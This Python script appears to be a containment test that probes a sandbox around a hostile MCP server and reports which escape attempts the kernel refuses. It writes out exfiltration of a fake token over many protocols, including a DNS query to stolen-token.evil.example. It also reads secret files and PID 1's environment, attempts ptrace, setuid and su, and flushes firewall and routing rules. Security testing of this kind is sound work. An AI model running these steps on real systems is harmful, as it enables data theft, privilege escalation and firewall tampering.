"""Tries every way out of a jail that a hostile MCP server has, and prints one JSON object: what came of each."""

import ctypes
import json
import os
import signal
import socket
import subprocess
import sys
import time

SECRET = b"stolen-token-0123456789"
facts = json.loads(sys.argv[1])
# The folder that is listed was open itself, and is not any more.
listed = [fd for fd in os.listdir("/proc/self/fd") if int(fd) > 2]
found = {"descriptors": [fd for fd in listed if os.path.exists("/proc/self/fd/" + fd)]}


def tried(name):
    def run(attempt):
        try:
            found[name] = attempt()
        except Exception as error:  # what a kernel answers is the result
            found[name] = "refused: " + type(error).__name__ + " " + str(error)[:80]

    return run


def tcp(address, port):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect((address, port))
        s.sendall(SECRET + b"\r\n\r\n")
        answer = s.recv(200)
        return "answered: " + answer[:60].decode("latin1")


def udp(address, port, payload=SECRET):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(0.5)
        s.connect((address, port))
        s.send(payload)
        return "answered: " + s.recv(200)[:12].hex()


def question(name):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00\x00\x01\x00\x01"


for address in facts["outside"]:
    for port in (22, 25, 80, 443, 853, 3128, 5432, 8443, 15001):
        tried(f"tcp {address} {port}")(lambda: tcp(address, port))
    for port in (53, 123, 443, 853, 51820):
        tried(f"udp {address} {port}")(lambda: udp(address, port))
    tried(f"dns {address}")(lambda: udp(address, 53, question("stolen-token.evil.example")))
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    icmp = socket.IPPROTO_ICMPV6 if ":" in address else socket.IPPROTO_ICMP

    def ping(kind):
        with socket.socket(family, kind, icmp) as s:
            s.settimeout(0.5)
            echo = b"\x80" if ":" in address else b"\x08"
            s.sendto(echo + b"\x00\x00\x00\x00\x01\x00\x01" + SECRET, (address, 0))
            return "answered: " + s.recv(100).hex()[:40]

    tried(f"ping socket {address}")(lambda: ping(socket.SOCK_DGRAM))
    tried(f"raw socket {address}")(lambda: ping(socket.SOCK_RAW))
    tried(f"sctp {address}")(
        lambda: socket.socket(family, socket.SOCK_STREAM, 132).connect((address, 443)) or "connected"
    )


@tried("frames")
def _():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((os.listdir("/sys/class/net")[0], 0))
        s.send(b"\xff" * 12 + b"\x08\x00" + SECRET)
        return "sent"


for name, family in (("vsock", 40), ("bluetooth", 31), ("qipcrtr", 42), ("alg", 38), ("packet", 17)):
    tried(f"family {name}")(lambda: socket.socket(family, socket.SOCK_SEQPACKET if family == 38 else socket.SOCK_DGRAM) and "made")

for path in facts["sockets"]:

    def unix(path=path):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(1)
            s.connect("\0" + path[1:] if path.startswith("@") else path)
            s.sendall(SECRET)
            return "connected"

    tried(f"unix {path}")(unix)

for path in facts["secrets"]:
    tried(f"read {path}")(lambda: "read: " + (open(path, "rb").read(20).hex() or "nothing"))
    tried(f"write {path}")(lambda: open(path, "ab").write(SECRET) and "written" if os.path.getsize(path) else "empty")

libc = ctypes.CDLL(None, use_errno=True)


@tried("other network namespaces")
def _():
    own = os.readlink("/proc/self/ns/net")
    others = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.readlink(f"/proc/{pid}/ns/net") != own:
                others.append(pid)
        except OSError:
            pass
    return "refused: none to be seen" if not others else "seen: " + ",".join(others)


@tried("first process's memory")
def _():
    return "read: " + open("/proc/1/environ", "rb").read(10).hex()


@tried("first process traced")
def _():
    if libc.ptrace(16, 1, None, None) == 0:
        return "attached"
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


@tried("inspector of the first process")
def _():
    os.kill(1, signal.SIGUSR1)
    time.sleep(0.5)
    return tcp("127.0.0.1", 9229)


for name, number in (("setuid", os.setuid), ("setgid", os.setgid)):
    tried(name)(lambda: number(facts["uid"]) or "became")

for command in (
    ["iptables", "-t", "nat", "-F"],
    ["nft", "flush", "ruleset"],
    ["ip", "link", "add", "out0", "type", "veth", "peer", "name", "out1"],
    ["ip", "route", "flush", "table", "main"],
    ["umount", facts["secrets"][0]],
    ["umount", "/run"],
    ["su", "-c", "id"],
):

    def shell(command=command):
        done = subprocess.run(command, capture_output=True, text=True, timeout=5, stdin=subprocess.DEVNULL)
        return "worked: " + done.stdout[:40] if done.returncode == 0 else "refused: " + done.stderr.strip()[:60]

    tried(" ".join(command))(shell)


@tried("a user namespace of its own")
def _():
    inside = f"umount {os.path.dirname(facts['secrets'][0])} && cat {facts['secrets'][0]}; umount /run && ls /run/netns; iptables -t nat -F 2>&1"
    done = subprocess.run(["unshare", "-Urm", "sh", "-c", inside], capture_output=True, text=True, timeout=10)
    return ("worked: " if done.returncode == 0 else "refused: ") + (done.stdout + done.stderr)[-80:].strip()


status = open("/proc/self/status").read()
found["capabilities"] = [line for line in status.splitlines() if line.startswith(("Cap", "NoNewPrivs"))]
print(json.dumps(found))
